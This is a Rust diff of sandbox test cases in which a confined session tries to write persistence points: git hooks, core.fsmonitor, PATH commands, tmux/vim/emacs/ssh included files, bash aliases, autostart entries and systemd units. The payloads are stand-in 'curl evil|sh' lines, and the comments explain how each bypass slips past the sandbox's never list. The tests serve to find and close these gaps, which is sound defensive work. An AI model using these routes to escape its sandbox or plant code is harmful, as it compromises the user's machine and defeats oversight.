+    let open = not_refused(&["a hook of the hooksPath added to the GIT_CONFIG_GLOBAL file", "a new hook there", "the GIT_CONFIG_GLOBAL file itself"], &r[1..]);
+    assert!(open.is_empty(), "the git configuration the environment names and the hooks it names later, written (heard: {heard}): {open:?}");
+}
+
+/// The user's file at `path` holding exactly `bytes` (as the user's) for one test; put back
+/// when the guard drops.
+fn users_bytes_for_a_test(path: &Path, bytes: &[u8]) -> Restore {
+    let old = std::fs::read(path).ok();
+    std::fs::write(path, bytes).unwrap_or_else(|e| panic!("write {}: {e}", path.display()));
+    chown(path);
+    Restore(path.to_path_buf(), old)
+}
+
+/// Plants a command in the folder `~/.bashrc` puts on `PATH`, and writes a hook in the folder
+/// `~/.gitconfig` names as `core.hooksPath`, where each file holds one byte that is not
+/// UTF-8: a comment in Latin-1 in `~/.bashrc` (`# Größe`, written years ago by an editor set
+/// to ISO-8859-1), a `user.name` in Latin-1 in `~/.gitconfig` (`Jürgen`). Bash and git read
+/// bytes, and run the folder and the hooks as before. Principle: the folders a never
+/// place's shell lines put on `PATH`, and git's hooks folder, are never-changed with it. Why
+/// it might get out: `read_text` reads a configuration file with `read_to_string`, so a file
+/// that is not valid UTF-8 counts as "not text" and names nothing (nor loads anything).
+/// Controls: a file beside them; the same lines in UTF-8 are protected (earlier passes).
+/// Gets out on 6.1 and 6.12: both hooks and both commands are written.
+#[test]
+fn plants_code_where_configuration_with_a_latin1_byte_names_it() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "latin1");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let hooks = top.join("hooks");
+    make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    make(&top.join("bin/tool"), Some("#!/bin/sh\n"));
+    let bashrc = PathBuf::from(home(".bashrc"));
+    let mut text = std::fs::read(&bashrc).unwrap_or_default();
+    text.extend_from_slice(b"\n# Gr\xf6\xdfe der Fenster\n");
+    text.extend_from_slice(format!("export PATH=\"$HOME/{rel}/bin:$PATH\"\n").as_bytes());
+    let _bashrc = users_bytes_for_a_test(&bashrc, &text);
+    let gc = PathBuf::from(home(".gitconfig"));
+    let mut g = b"[user]\n\tname = J\xfcrgen\n".to_vec();
+    g.extend_from_slice(format!("[core]\n\thooksPath = ~/{rel}/hooks\n").as_bytes());
+    let _gc = users_bytes_for_a_test(&gc, &g);
+    let mut red = Red::start("latin1");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        let mut r = write_hooks(&top, &hooks);
+        r.push(create(&top.join("bin/git"), "#!/bin/sh\ncurl evil|sh\n"));
+        r.push(append(&top.join("bin/tool"), "curl evil|sh\n"));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["a hook of the hooksPath ~/.gitconfig names", "a new hook there", "a new command in the folder ~/.bashrc puts on PATH", "a command there"], &r[1..]);
+    assert!(open.is_empty(), "code places named by configuration with a Latin-1 byte, written: {open:?}");
+}
+
+/// Writes the files that four never places load by their own tools' forms: `~/.tmux.conf`'s
+/// `source-file ~/dots/tmux/theme.conf` (a theme, every tmux setup guide), `~/.vimrc`'s `so
+/// ~/dots/vim/plugins.vim`, `~/.emacs`'s `(load "~/dots/emacs/local.el")` and
+/// `~/.ssh/config`'s `Include ~/dots/ssh/work.conf` (a `ProxyCommand` or `Match exec` there
+/// runs at the user's next `ssh`). Each loaded file is code the user's tool runs: the
+/// session adds `run-shell`, `:!`, `shell-command` and `Match exec` lines. Principle: "a never
+/// place's protection follows what it loads". Why it might get out: `loads_of` knows git's
+/// `[include]` `path =` and a shell's `source FILE` and `. FILE`, word for word; `source-file`,
+/// `so`, `(load "...")` and `Include` are other words. Control: a file beside them.
+/// Gets out on 6.1 and 6.12: all four files are written.
+#[test]
+fn writes_the_files_the_users_tmux_vim_emacs_and_ssh_configuration_loads() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "toolloads");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let files = ["tmux/theme.conf", "vim/plugins.vim", "emacs/local.el", "ssh/work.conf"];
+    for f in files {
+        make(&top.join(f), Some("# the user's\n"));
+    }
+    let ssh = PathBuf::from(home(".ssh"));
+    if !ssh.exists() {
+        c.add(&ssh);
+        udir(ssh.to_str().unwrap());
+        std::fs::set_permissions(&ssh, std::fs::Permissions::from_mode(0o700)).unwrap();
+    }
+    let _tmux = users_file_appended(&PathBuf::from(home(".tmux.conf")), &format!("source-file ~/{rel}/tmux/theme.conf"));
+    let _vim = users_file_appended(&PathBuf::from(home(".vimrc")), &format!("so ~/{rel}/vim/plugins.vim"));
+    let _emacs = users_file_appended(&PathBuf::from(home(".emacs")), &format!("(load \"~/{rel}/emacs/local.el\")"));
+    let _ssh = users_file_appended(&ssh.join("config"), &format!("Include ~/{rel}/ssh/work.conf"));
+    assert_eq!(ungated(|| files.iter().map(|f| open_w(&top.join(f))).collect()), vec![0; 4], "control: the user writes them");
+    let mut red = Red::start("toolloads");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let payload = ["run-shell 'curl evil|sh'\n", ":silent !curl evil|sh\n", "(shell-command \"curl evil|sh\")\n", "Match exec \"curl evil|sh\"\n"];
+    let r = red.gated(|| {
+        let mut r = vec![create(&top.join("notes.txt"), "x")];
+        r.extend(files.iter().zip(payload).map(|(f, p)| append(&top.join(f), p)));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["the theme ~/.tmux.conf loads (source-file)", "the file ~/.vimrc loads (so)", "the file ~/.emacs loads (load)", "the file ~/.ssh/config includes (Include)"], &r[1..]);
+    assert!(open.is_empty(), "files the user's never places load, written: {open:?}");
+}
+
+/// Replaces the folder of a file the user's `~/.gitconfig` includes (`[include] path =
+/// ~/work/git/identity.gitconfig`, in a folder the session was granted): the session cannot
+/// write the included file, so it renames its folder `git` to `git-old`, makes a new `git`
+/// and writes `identity.gitconfig` there with `core.fsmonitor = curl evil|sh`; the user's
+/// next `git status` includes the session's file. Principle: "what a protected file loads
+/// is protected with it", and "an ancestor of a never place cannot be moved away to
+/// rebuild the path" (`pin_ancestors`). Why it might get out: `NeverList::seed` pins the
+/// ancestors of each never place, but a loaded file is seeded alone (`seed_literal`: its
+/// inode and its name in its folder), so its folder moves away with the name and the folder
+/// made in its place holds none. Control: the included file itself is refused.
+/// Gets out on 6.1 and 6.12: the included file is refused, the folder is moved away and
+/// remade, and the file made there is the one `~/.gitconfig` includes.
+#[test]
+fn moves_the_folder_of_a_file_the_users_gitconfig_includes_away_and_remakes_it() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "incmove");
+    let gitdir = top.join("git");
+    let inc = gitdir.join("identity.gitconfig");
+    let original = "[user]\n\temail = me@work.example\n";
+    make(&inc, Some(original));
+    let gc = PathBuf::from(home(".gitconfig"));
+    let _restore = users_file_for_a_test(&gc, &format!("[user]\n\tname = u\n[include]\n\tpath = {}\n", inc.display()));
+    let probe = top.join("probe");
+    assert_eq!(ungated(|| vec![rename(&gitdir, &probe), rename(&probe, &gitdir)]), vec![0, 0], "control: the user moves the folder");
+    let mut red = Red::start("incmove");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let evil = "[core]\n\tfsmonitor = curl evil|sh\n";
+    let r = red.gated(|| vec![append(&inc, evil), rename(&gitdir, &top.join("git-old")), mkdir(&gitdir), create(&inc, evil)]);
+    assert!(refused(r[0]), "control: the included file is refused: {r:?}");
+    let now = holds(&inc, original);
+    if now != 0 && top.join("git-old").exists() {
+        // The user's folder back before the assertion fails.
+        let _ = std::fs::remove_dir_all(&gitdir);
+        let _ = std::fs::rename(top.join("git-old"), &gitdir);
+    }
+    assert_eq!(now, 0, "the file ~/.gitconfig includes is now the session's: {r:?}");
+}
+
+/// Writes the file `~/.bashrc` sources by a path relative to the home (`. dots/aliases.sh`:
+/// an interactive shell starts in the home, so bash finds it there; written so for a
+/// dotfiles folder whose name is the same on every machine), with an alias that runs the
+/// session's code at the user's next `ls`. Principle: "a never place's protection follows
+/// what it loads". Why it might get out: `loads_of` takes a `source FILE` or `. FILE` with a
+/// literal path that is absolute or starts with `~/`, `$HOME/` or `${HOME}/` (`path_of`
+/// without a folder to count from); a path relative to the shell's working folder names
+/// nothing. Controls: a file beside it; the same file sourced as `~/dots/aliases.sh` is
+/// refused (the earlier passes).
+/// Gets out on 6.1 and 6.12: the sourced file is written.
+#[test]
+fn writes_the_file_the_users_bashrc_sources_by_a_path_relative_to_the_home() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "relsrc");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let aliases = top.join("dots/aliases.sh");
+    make(&aliases, Some("alias ll='ls -l'\n"));
+    let _bashrc = bashrc_with(&format!("[ -f {rel}/dots/aliases.sh ] && . {rel}/dots/aliases.sh"));
+    let mut red = Red::start("relsrc");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| vec![create(&top.join("notes.txt"), "x"), append(&aliases, "alias ls='curl evil|sh; ls'\n")]);
+    assert_eq!(r[0], 0, "control: a file beside it: {r:?}");
+    assert!(refused(r[1]), "the file ~/.bashrc sources relative to the home, written: {r:?}");
+}
+
+/// Writes the user's git configuration, autostart entries and user units where `~/.bashrc`
+/// moves the user's configuration folder (`export XDG_CONFIG_HOME="$HOME/dots/config"`, a
+/// dotfiles repository kept as the XDG folder), when the session was started by a process
+/// that did not run `~/.bashrc` (an editor's task runner, a desktop launcher, `ssh host
+/// pincer run`, a cron job), so its environment has no `XDG_CONFIG_HOME`. The user's shells,
+/// and every program started from them, read `~/dots/config/git/config`: `core.fsmonitor`
+/// there runs at the next `git status`. Principle: the never list's places (`~/.config/git/**`,
+/// `~/.config/autostart/**`, `~/.config/systemd/**`) are never changed by a session, and they
+/// move with `XDG_CONFIG_HOME` ("git's configuration moved by `XDG_CONFIG_HOME` ... closed").
+/// Why it might get out: `moved_rules` moves the places by the starters' environments
+/// (`of_environment`); an assignment in the shell's configuration files moves nothing, and
+/// under `~/dots` the names are visible, so a grant on the folder reaches them. Control: a
+/// file beside them.
+/// Gets out on 6.1 and 6.12: all three are written.
+#[test]
+fn writes_configuration_where_the_users_bashrc_moves_xdg_config_home() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "xdgrc");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let cfg = top.join("config");
+    make(&cfg.join("git/config"), Some("[user]\n\tname = u\n"));
+    make(&cfg.join("autostart/keep.desktop"), Some("[Desktop Entry]\n"));
+    make(&cfg.join("systemd/user/keep.service"), Some("[Service]\n"));
+    let _bashrc = bashrc_with(&format!("export XDG_CONFIG_HOME=\"$HOME/{rel}/config\""));
+    let mut red = Red::start("xdgrc");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        vec![
+            create(&top.join("notes.txt"), "x"),
+            append(&cfg.join("git/config"), "[core]\n\tfsmonitor = curl evil|sh\n"),
+            create(&cfg.join("autostart/evil.desktop"), "[Desktop Entry]\nExec=sh -c 'curl evil|sh'\n"),
+            create(&cfg.join("systemd/user/evil.service"), "[Service]\nExecStart=/bin/sh -c 'curl evil|sh'\n"),
+        ]
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["git's configuration there", "an autostart entry there", "a user unit there"], &r[1..]);
+    assert!(open.is_empty(), "the never places ~/.bashrc moves with XDG_CONFIG_HOME, written: {open:?}");
+}
